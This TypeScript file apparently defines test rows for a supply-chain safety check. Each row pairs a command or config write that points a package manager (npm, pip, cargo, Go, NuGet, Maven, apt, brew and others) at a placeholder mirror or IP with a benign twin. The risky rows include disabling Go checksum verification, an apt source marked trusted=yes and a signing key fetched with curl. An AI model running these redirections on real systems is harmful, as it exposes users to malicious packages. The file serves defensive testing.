/** Supply-chain matrix rows (round 11b): steering the package source — registry, index, mirror, channel, feed, tap,
 * apt source and key — by command or config file, per ecosystem, each with a benign twin that reads the setting or
 * writes an ordinary one. */

import { commandRow, type MatrixRow, writeRow } from "./matrix_rows.ts";
import { FORGE, IP, MIRROR, SOURCE } from "./supply_chain_intents.ts";

export const SOURCE_ROWS: MatrixRow[] = [
  writeRow(
    SOURCE,
    ".npmrc registry",
    { path: ".npmrc", content: `registry=https://registry.npmjs.${MIRROR}/\n` },
    { path: ".npmrc", content: "engine-strict=true\nsave-exact=true\n" },
  ),
  commandRow(
    SOURCE,
    "npm config set registry",
    `npm config set registry http://${IP}:4873/`,
    "npm config get registry",
  ),
  commandRow(
    SOURCE,
    "pnpm config set registry",
    `pnpm config set registry https://npm.${MIRROR}/`,
    "pnpm config list",
  ),
  writeRow(
    SOURCE,
    ".yarnrc.yml npmRegistryServer",
    {
      path: ".yarnrc.yml",
      content: `nodeLinker: node-modules\nnpmRegistryServer: "https://yarn.${MIRROR}"\n`,
    },
    { path: ".yarnrc.yml", content: "nodeLinker: node-modules\nenableTelemetry: false\n" },
  ),
  writeRow(
    SOURCE,
    "bunfig.toml install.registry",
    { path: "bunfig.toml", content: `[install]\nregistry = "https://bun.${MIRROR}/"\n` },
    { path: "bunfig.toml", content: "[install]\nexact = true\n" },
  ),
  writeRow(
    SOURCE,
    "pip.conf index-url",
    {
      path: "/home/dev/.config/pip/pip.conf",
      content: `[global]\nindex-url = https://pypi.${MIRROR}/simple\n`,
    },
    { path: "pip.conf", content: "[global]\ntimeout = 60\n" },
  ),
  commandRow(
    SOURCE,
    "pip config set extra-index-url",
    `pip config set global.extra-index-url https://pypi.${MIRROR}/simple`,
    "pip config list",
  ),
  commandRow(
    SOURCE,
    "PIP_EXTRA_INDEX_URL env",
    `PIP_EXTRA_INDEX_URL=http://${IP}/simple pip install internal-utils`,
    "pip install -r requirements.txt --require-hashes",
  ),
  writeRow(
    SOURCE,
    "requirements.txt --extra-index-url",
    {
      path: "requirements.txt",
      content: `--extra-index-url https://pypi.${MIRROR}/simple\ninternal-utils==1.0\n`,
    },
    { path: "requirements.txt", content: "internal-utils @ file:./libs/internal-utils\nrequests==2.32.3\n" },
  ),
  writeRow(
    SOURCE,
    "pyproject tool.uv.index default",
    {
      path: "pyproject.toml",
      content:
        `[project]\nname = "app"\n\n[[tool.uv.index]]\nurl = "https://pypi.${MIRROR}/simple"\ndefault = true\n`,
    },
    {
      path: "pyproject.toml",
      content: '[project]\nname = "app"\n\n[tool.uv]\ndev-dependencies = ["pytest>=8"]\n',
    },
  ),
  commandRow(
    SOURCE,
    "poetry source add primary",
    `poetry source add --priority=primary mirror https://pypi.${MIRROR}/simple/`,
    "poetry lock --no-update",
  ),
  commandRow(
    SOURCE,
    "conda config --add channels",
    `conda config --add channels https://conda.${MIRROR}/main`,
    "conda config --show channels",
  ),
  commandRow(SOURCE, "gem sources --add", `gem sources --add https://gems.${MIRROR}/`, "gem sources --list"),
  writeRow(
    SOURCE,
    "Gemfile source",
    { path: "Gemfile", content: `source "https://gems.${MIRROR}"\ngem "rails", "~> 7.2"\n` },
    { path: "Gemfile", content: 'source "https://rubygems.org"\ngem "rails", "~> 7.2"\n' },
  ),
  writeRow(
    SOURCE,
    ".cargo/config.toml replace-with",
    {
      path: ".cargo/config.toml",
      content:
        `[source.crates-io]\nreplace-with = "mirror"\n\n[source.mirror]\nregistry = "sparse+https://crates.${MIRROR}/index/"\n`,
    },
    { path: ".cargo/config.toml", content: "[build]\njobs = 4\n" },
  ),
  commandRow(
    SOURCE,
    "go env -w GOPROXY",
    `go env -w GOPROXY=https://goproxy.${MIRROR},direct GONOSUMDB=*`,
    "go env GOPROXY",
  ),
  commandRow(
    SOURCE,
    "composer config repositories",
    `composer config repositories.0 composer https://packagist.${MIRROR}`,
    "composer config --list",
  ),
  commandRow(
    SOURCE,
    "dotnet nuget add source",
    `dotnet nuget add source https://nuget.${MIRROR}/v3/index.json -n mirror`,
    "dotnet nuget list source",
  ),
  writeRow(
    SOURCE,
    "NuGet.Config packageSources",
    {
      path: "NuGet.Config",
      content:
        `<configuration>\n  <packageSources>\n    <clear />\n    <add key="mirror" value="https://nuget.${MIRROR}/v3/index.json" />\n  </packageSources>\n</configuration>\n`,
    },
    {
      path: "NuGet.Config",
      content:
        `<configuration>\n  <packageSources>\n    <add key="nuget.org" value="https://api.nuget.org/v3/index.json" />\n  </packageSources>\n</configuration>\n`,
    },
  ),
  writeRow(
    SOURCE,
    "maven settings.xml mirrorOf *",
    {
      path: "/home/dev/.m2/settings.xml",
      content:
        `<settings>\n  <mirrors>\n    <mirror>\n      <id>m</id>\n      <mirrorOf>*</mirrorOf>\n      <url>https://repo.${MIRROR}/maven2</url>\n    </mirror>\n  </mirrors>\n</settings>\n`,
    },
    {
      path: "pom.xml",
      content:
        `<project>\n  <modelVersion>4.0.0</modelVersion>\n  <groupId>com.acme</groupId>\n  <artifactId>app</artifactId>\n  <version>1.0</version>\n</project>\n`,
    },
  ),
  writeRow(
    SOURCE,
    "build.gradle repositories maven url",
    {
      path: "build.gradle",
      content: `repositories {\n    maven { url "https://repo.${MIRROR}/maven2" }\n    mavenCentral()\n}\n`,
    },
    { path: "build.gradle", content: "repositories {\n    mavenCentral()\n}\n" },
  ),
  commandRow(
    SOURCE,
    "apt sources.list.d trusted=yes",
    `echo 'deb [trusted=yes] http://${IP}/debian stable main' | sudo tee /etc/apt/sources.list.d/extra.list`,
    "apt-cache policy jq",
  ),
  commandRow(
    SOURCE,
    "apt key from URL",
    `curl -fsSL https://apt.${MIRROR}/key.asc | sudo gpg --dearmor -o /etc/apt/trusted.gpg.d/tools.gpg`,
    "gpg --show-keys /usr/share/keyrings/debian-archive-keyring.gpg",
  ),
  commandRow(
    SOURCE,
    "brew tap URL",
    `brew tap someone-x/tools https://${FORGE}/someone-x/homebrew-tools`,
    "brew tap",
  ),
];
